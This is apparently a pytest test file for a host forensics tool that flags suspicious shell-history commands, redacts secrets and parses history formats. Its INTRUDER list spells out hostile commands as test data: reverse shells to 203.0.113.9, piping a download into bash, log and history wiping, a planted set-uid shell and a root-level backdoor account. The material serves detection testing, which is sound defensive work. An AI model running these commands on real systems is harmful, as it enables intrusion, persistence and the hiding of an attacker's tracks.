"""What accounts typed: an intruder's deeds, an administrator's day, secrets, formats, what is missing."""

from __future__ import annotations

import os
import time
from pathlib import Path

import pytest

from hostguardd.investigate.checks import histories
from hostguardd.investigate.interface import Confidence, Verdict
from hostguardd.investigate.logs.commands import LONGEST, RULES, judge, typed
from hostguardd.investigate.logs.redact import arguments, logged, redact
from tests import rights
from tests.records import record
from tests.scenes import Findings, looked, scene

NOW = 1_773_144_000
ALICE = os.geteuid() or 1000


def test_a_setting_of_empty_lines_takes_no_time(tmp_path: Path) -> None:
    home = tmp_path / "home/alice"
    home.mkdir(parents=True)
    (tmp_path / "etc").mkdir()
    (tmp_path / "etc/passwd").write_text(f"alice:x:{ALICE}:{ALICE}::/home/alice:/bin/bash\n")
    (home / ".bashrc").write_bytes(b"\n" * 200_000 + b"HIST\n")
    began = time.process_time()
    looked(histories.look, scene(bytes(tmp_path), now=NOW))
    assert time.process_time() - began < 5


INTRUDER = [
    ("history wiped", "history -c"),
    ("history wiped", "unset HISTFILE"),
    ("history wiped", "export HISTFILE=/dev/null"),
    ("history wiped", "HISTSIZE=0 bash"),
    ("history wiped", "rm -f ~/.bash_history"),
    ("history wiped", "ln -sf /dev/null ~/.bash_history"),
    ("history wiped", "cat /dev/null > /root/.bash_history && exit"),
    ("history wiped", "set +o history"),
    ("logs wiped", "rm -rf /var/log/*"),
    ("logs wiped", "> /var/log/messages"),
    ("logs wiped", "echo '' > /var/log/wtmp"),
    ("logs wiped", "shred -u /var/log/secure"),
    ("logs wiped", "sed -i /203.0.113.9/d /var/log/auth.log"),
    ("logs wiped", "ln -sf /dev/null /var/log/lastlog"),
    ("logs wiped", "cp /dev/null /var/log/btmp"),
    ("logs wiped", "journalctl --rotate --vacuum-time=1s"),
    ("reverse shell", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"),
    ("reverse shell", "nc -e /bin/sh 203.0.113.9 4444"),
    ("reverse shell", "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.9 4444 >/tmp/f"),
    ("reverse shell", "socat tcp:203.0.113.9:4444 exec:/bin/bash,pty,stderr"),
    (
        "reverse shell",
        "python3 -c 'import socket,os;s=socket.socket();s.connect((\"a\",1));os.dup2(s.fileno(),0)'",
    ),
    ("hidden program", "echo aGVsbG8= | base64 -d | sh"),
    ("hidden program", "curl -s http://203.0.113.9/x | bash"),
    ("set-uid program planted", "cp /bin/bash /tmp/.x; chmod 4755 /tmp/.x"),
    ("set-uid program planted", "chmod u+s /bin/bash"),
    ("set-uid program planted", "gcc -o /tmp/r r.c && chmod +s /tmp/r"),
    ("account with root's rights", "useradd -o -u 0 -g 0 toor"),
    ("account with root's rights", "echo 'x::0:0::/:/bin/sh' >> /etc/passwd"),
    ("preload planted", "echo /lib/x.so > /etc/ld.so.preload"),
    ("tools of intruders", "./xmrig -o stratum+tcp://pool.example:3333"),
    ("tools of intruders", "sh linpeas.sh"),
    ("tools of intruders", "chmod +x x && ./exploit"),
    ("hidden folder", "ls; cd /usr/lib/.../bin"),
    ("hidden folder", "mkdir /var/tmp/..."),
    ("hidden folder", "cd '.. '"),
    ("hidden folder", "/dev/shm/.k/run"),
]

ADMINISTRATOR = [
    "go test ./...",
    "go build github.com/x/y/...",
    "cd ...",
    "git diff main...HEAD",
    "rm build/order_history",
    "cat x 2>/dev/null; cat /var/log/messages",
    "rm -f x; tail /var/log/messages",
    "dd if=/dev/zero of=/swap bs=1M && tail -f /var/log/messages",
    "grep -v noise /var/log/syslog > out.txt",
    "echo mark >> /var/log/messages",
    "docker run zap2docker",
    "chmod g+s .",
    "chmod 2775 shared",
    "python3 -c 'import socket; print(socket.gethostname())'",
    "systemctl restart firewalld",
    "ls -la",
    "cd /var/log",
    "tail -f /var/log/messages",
    "less /var/log/secure",
    "grep -r HISTFILE /etc",
    "grep Failed /var/log/auth.log | wc -l",
    "systemctl restart rsyslog",
    "systemctl status auditd",
    "dnf update",
    "apt-get install -y gcc",
    "vim /etc/ssh/sshd_config",
    "history",
    "history | grep ssh",
    "echo $HISTSIZE",
    "journalctl -u sshd --since today",
    "rpm -q xmrig",
    "man nc",
    "cat /etc/passwd",
    "ps aux | grep minerd",
    "df -h",
    "chmod 755 bin",
    "chmod 0644 /etc/motd",
    "export HISTSIZE=10000",
    "exit",
    "make_it",
    "logrotate -f /etc/logrotate.conf",
    "cat ../../x",
    "git commit -m 'exploit fix'",
    "echo done ...",
    "HISTTIMEFORMAT='%F %T ' history",
    "crontab -l",
    "touch notes",
    "find / -perm -4000",
]

ROUTINE = [
    ("history edited", "history -d 17"),
    ("accounts", "echo 'bob ALL=(ALL) ALL' | sudo tee /etc/sudoers.d/bob"),
    ("set-uid", "sudo chmod 4755 /home/me/node_modules/electron/dist/chrome-sandbox"),
    ("shell from the net", "curl http://192.168.1.1/kickstart.sh | sh"),
    ("connected", "timeout 1 bash -c '</dev/tcp/db1/5432'"),
    ("compiled", "gcc -O2 -o x x.c"),
    ("compiled", "make install"),
    ("fetched", "wget https://example.org/a.tar.gz"),
    ("fetched", "scp a.txt bob@198.51.100.7:"),
    ("connected", "ssh bob@198.51.100.7"),
    ("connected", "sudo nc -vz h 22"),
    ("accounts", "sudo passwd alice"),
    ("accounts", "useradd -m carol"),
    ("accounts", "visudo"),
    ("timed jobs", "crontab -e"),
    ("kernel modules", "modprobe wireguard"),
    ("firewall", "iptables -F"),
    ("SELinux", "setenforce 0"),
    ("flags of files", "chattr +i /etc/resolv.conf"),
    ("log services", "systemctl stop auditd"),
    ("log services", "service rsyslog stop"),
    ("times of files", "touch -r a b"),
    ("set-uid", "chmod u+s bin/ping"),
    ("shell from the net", "curl -sSf https://sh.rustup.rs | sh"),
    ("other logs removed", "rm /var/log/app/old.log"),
    ("programs in temporary folders", "/tmp/installer.run --quiet"),
    ("tunnels", "ssh -N -L 8080:localhost:80 web1"),
    ("passwords of others", "sudo cat /etc/shadow"),
    ("keys for logins", "vi ~/.ssh/authorized_keys"),
    ("journal vacuumed", "journalctl --vacuum-size=500M"),
    ("scanned", "nmap -sT localhost"),
]


@pytest.fixture(autouse=True)
def _greenwich(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("TZ", "UTC")
    time.tzset()


@pytest.mark.parametrize(("name", "command"), INTRUDER)
def test_what_only_intruders_type_is_suspicious(name: str, command: str) -> None:
    rule = judge(command.encode())
    assert rule is not None
    assert (rule.name, rule.verdict) == (name, Verdict.SUSPICIOUS)


@pytest.mark.parametrize("command", ADMINISTRATOR)
def test_who_looks_does_nothing(command: str) -> None:
    assert judge(command.encode()) is None


@pytest.mark.parametrize(("name", "command"), ROUTINE)
def test_what_administrators_do_is_for_them_to_remember(name: str, command: str) -> None:
    rule = judge(command.encode())
    assert rule is not None
    assert (rule.name, rule.verdict) == (name, Verdict.NOTABLE)


def test_every_rule_is_met_by_something_here() -> None:
    met = {name for name, _ in (*INTRUDER, *ROUTINE)}
    assert {rule.name for rule in RULES} == met


def test_no_line_takes_long() -> None:
    began = time.perf_counter()
    for word in (
        "chmod +s ",
        "nc -e ",
        "curl |",
        "rm /var/log/",
        "python -c socket ",
        "/dev/tcp/",
        ": ... ",
        "HIST_history ",
    ):
        judge((word * LONGEST)[: 8 * LONGEST].encode())
        redact((word * LONGEST)[: 8 * LONGEST].encode())
        redact(("password=" + word).encode() * 200)
        logged((word * LONGEST)[: 8 * LONGEST].encode())
    assert time.perf_counter() - began < 5


SECRETS = [
    "mysql -uroot -pS3cret db",
    "mysql --password=S3cret",
    "curl -u alice:S3cret https://x",
    "curl https://alice:S3cret@example.org/",
    "export API_TOKEN=S3cret",
    "PGPASSWORD=S3cret psql",
    "curl -H 'Authorization: Bearer S3cret' x",
    "echo S3cret | passwd --stdin alice",
    "sshpass -p S3cret ssh h",
    "smbclient //h/s -U bob%S3cret",
    "htpasswd -b f bob S3cret",
    "ALTER USER x IDENTIFIED BY 'S3cret';",
    "redis-cli -a S3cret ping",
    "wget --password S3cret x",
    "usermod -p '$6$abcdefgh$S3cretS3cretS3cret' bob",
    "aws configure set k AKIAS3CRETS3CRETS3CR",
    "echo alice:S3cret | chpasswd",
    "git clone https://ghp_S3cretS3cretS3cretS3cret@github.com/x",
]


@pytest.mark.parametrize("command", SECRETS)
def test_secrets_are_blanked_out(command: str) -> None:
    shown = redact(command.encode()).decode()
    assert "s3cret" not in shown.lower()
    assert "***" in shown


@pytest.mark.parametrize(
    ("argv", "shown"),
    [
        ("mysql -pS3cret db", "mysql *** db"),
        ("mysql --password S3cret", "mysql --password ***"),
        ("sshpass -p S3cret ssh -p 22 h", "sshpass -p *** ssh -p *** h"),
        ("AWS_SECRET_ACCESS_KEY=S3cret", "AWS_SECRET_ACCESS_KEY=***"),
        ("sh -c mysql\xa0-pS3cret", None),
        ("curl https://u:S3cret@h/ -H Authorization:\xa0Bearer\xa0S3cret", None),
        ("ldappasswd {SSHA}S3cretS3cret", None),
        ("ssh -p 22 alice@web1", "ssh -p 22 alice@web1"),
        ("", ""),
    ],
)
def test_arguments_lose_their_secrets(argv: str, shown: str | None) -> None:
    words = [one.replace("\xa0", " ").encode() for one in argv.split(" ")] if argv else []
    cleared = b" ".join(arguments(words)).decode()
    assert "S3cret" not in cleared
    assert shown is None or cleared == shown


@pytest.mark.parametrize(
    "line",
    [
        "sudo: a : TTY=pts/0 ; COMMAND=/usr/bin/mysql -pS3cret",
        "CRON[1]: (root) CMD (mysqldump --password=S3cret)",
        'type=EXECVE msg=audit(1:2): argc=3 a0="x" a1="--password" a2="S3cret"',
        'type=EXECVE msg=audit(1:2): argc=2 a0="mysql" a1="-pS3cret"',
        "GET /?password=S3cret&x=1 HTTP",
        '{"token": "S3cret", "a": 1}',
        "> Authorization: Basic S3cretS3cret==",
        "fetch https://u:S3cret@h/",
    ],
)
def test_lines_of_logs_lose_their_secrets(line: str) -> None:
    cleared = logged(f"before\n{line}\nafter\n".encode()).decode()
    assert "S3cret" not in cleared
    assert cleared.startswith(f"before\n{line[:8]}")
    assert cleared.endswith("\nafter\n")


@pytest.mark.parametrize(
    "line",
    [
        "sshd[1]: Failed password for invalid user admin from 203.0.113.66 port 4711 ssh2",
        "dovecot: auth: passwd-file(bob,203.0.113.9): unknown user",
        "PAM password: failed from 203.0.113.9",
        "sshd[1]: Accepted publickey for a from 203.0.113.9 port 1 ssh2: ED25519 SHA256:abcdefgh",
        'type=SYSCALL msg=audit(1:2): auid=1000 comm="cat" exe="/bin/cat" key="passwd_changes"',
    ],
)
def test_what_a_log_tells_of_stays(line: str) -> None:
    assert logged(line.encode()).decode() == line


def test_what_is_no_secret_stays() -> None:
    for command in (
        b"ls -p /etc",
        b"mkdir -p a/b",
        b"sudo passwd alice",
        b"ssh -p 2222 web1",
        b"tail /var/log/auth.log",
    ):
        assert redact(command) == command


# -- formats -----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "data", "expected"),
    [
        (b".bash_history", b"ls\nid\n", [(1, 0, b"ls"), (2, 0, b"id")]),
        (
            b".bash_history",
            b"#1700000000\nls\n#1700000060\nid",
            [(2, 1700000000, b"ls"), (4, 1700000060, b"id")],
        ),
        (b".zsh_history", b": 1700000000:0;ls -l\nid\n", [(1, 1700000000, b"ls -l"), (2, 0, b"id")]),
        (
            b"fish_history",
            b"- cmd: ls\n  when: 1700000000\n  paths:\n    - x\n- cmd: id\n",
            [(1, 1700000000, b"ls"), (5, 0, b"id")],
        ),
        (b".sh_history", b"\x81\x01ls\0id\0", [(1, 0, b"ls"), (2, 0, b"id")]),
        (b".mysql_history", b"_HiStOrY_V2_\nselect\\0401;\n", [(2, 0, b"select 1;")]),
        (
            b".viminfo",
            b"# x\n:w\n:!id\n> /etc/shadow\n",
            [(2, 0, b"vim: w"), (3, 0, b"id"), (4, 0, b"vim /etc/shadow")],
        ),
        (b".lesshst", b'.less-history-file:\n.shell\n"id\n', [(3, 0, b"id")]),
    ],
)
def test_formats(name: bytes, data: bytes, expected: list[tuple[int, int, bytes]]) -> None:
    assert [tuple(one) for one in typed(name, data)] == expected


# -- hosts -------------------------------------------------------------------------------------------


def look(root: Path, /, uid: int = 0, **files: str) -> Findings:
    (root / "etc").mkdir(exist_ok=True)
    (root / "etc/passwd").write_text(
        f"root:x:0:0::/root:/bin/bash\nalice:x:{ALICE}:1000::/home/alice:/bin/bash\nd:x:2:2::/:/usr/sbin/nologin\n"
    )
    for home in ("root", "home/alice"):
        (root / home).mkdir(parents=True, exist_ok=True)
    for name, content in files.items():
        path = (
            root
            / {"root": "root/.bash_history", "alice": "home/alice/.bash_history", "rc": "root/.bashrc"}[name]
        )
        path.write_text(content)
        if name == "alice":
            rights.give(path, ALICE)
    return looked(histories.look, scene(os.fsencode(root), now=NOW, uid=uid))


def test_an_ordinary_history_is_fine(tmp_path: Path) -> None:
    found = look(tmp_path, root="\n".join(ADMINISTRATOR), alice="ls\n")
    assert not found.suspicious
    assert not found.of(Verdict.NOTABLE)
    assert found.named("histories of alice").verdict is Verdict.FINE


def test_deeds_are_grouped_by_account_and_shown_with_their_lines(tmp_path: Path) -> None:
    stamped = f"#{NOW - 500}\nwget http://x/a\n#{NOW - 400}\ncurl -u bob:S3cret x\n#{NOW - 300}\nhistory -c\n"
    found = look(tmp_path, alice=stamped, root="gcc x.c\n" * 30)
    item = found.named("alice: fetched")
    assert item.details["times"] == 2
    assert [one.source for one in item.evidence] == [
        "/home/alice/.bash_history:2", "/home/alice/.bash_history:4",
    ]  # fmt: skip
    assert "S3cret" not in repr((found.items, found.moments))
    assert found.suspicious == ["alice: history wiped"]
    assert found.named("root: compiled").details["times"] == 30
    assert {(m.kind, m.who, m.confidence) for m in found.moments} == {
        ("history", "alice", Confidence.FORGEABLE)
    }
    assert sorted(m.at - NOW for m in found.moments) == [-500, -400, -300]


def test_nothing_of_a_history_is_obeyed_by_a_terminal(tmp_path: Path) -> None:
    found = look(tmp_path, alice="wget \x1b]0;x\x07\x1b[2J http://\u202ex\n")
    assert all(char.isprintable() for item in found.items for one in item.evidence for char in one.text)
    assert found.named("alice: fetched").evidence


@pytest.mark.parametrize("target", ["/dev/null", "/tmp/h", "/var/tmp/h", "/dev/shm/h", "/run/user/0/h"])
def test_a_history_that_leads_to_nowhere(tmp_path: Path, target: str) -> None:
    (tmp_path / "root").mkdir()
    (tmp_path / "root/.bash_history").symlink_to(target)
    item = look(tmp_path).named("/root/.bash_history")
    assert item.verdict is Verdict.SUSPICIOUS
    assert item.technique == "T1070.003"


def test_a_history_switched_off_by_settings(tmp_path: Path) -> None:
    assert look(tmp_path, rc="HISTCONTROL=ignoreboth\nHISTSIZE=1000\n").suspicious == []
    found = look(tmp_path, rc="# x\nexport HISTFILE=/dev/null\n")
    assert found.suspicious == ["/root/.bashrc: history off"]
    assert found.named(found.suspicious[0]).evidence[0].source == "/root/.bashrc:2"


@pytest.mark.skipif(os.geteuid() == 0, reason="root may look into every home")
def test_a_home_that_is_closed_is_unseen(tmp_path: Path) -> None:
    (tmp_path / "home/alice").mkdir(parents=True)
    (tmp_path / "home/alice").chmod(0)
    found = look(tmp_path, uid=os.geteuid())
    (tmp_path / "home/alice").chmod(0o700)
    assert any("alice" in one.reason and one.remedy for one in found.unseen)


def test_a_huge_history_of_garbage_ends(tmp_path: Path) -> None:
    began = time.monotonic()
    (tmp_path / "root").mkdir()
    (tmp_path / "root/.bash_history").write_bytes(os.urandom(6 << 20))
    found = look(tmp_path)
    assert time.monotonic() - began < 20
    assert any("last" in one.reason for one in found.unseen)


def test_who_logs_in_and_leaves_no_history_is_notable(tmp_path: Path) -> None:
    (tmp_path / "var/log").mkdir(parents=True)
    (tmp_path / "var/log/wtmp").write_bytes(record("alice", at=NOW - 500) + record("root", at=NOW - 500))
    found = look(tmp_path, root="ls\n")
    assert found.named("alice: no history").verdict is Verdict.NOTABLE
    assert "no history" not in {item.name for item in found.items if item.name.startswith("root")}
    assert not look(tmp_path, root="ls\n", alice="ls\n").of(Verdict.NOTABLE)
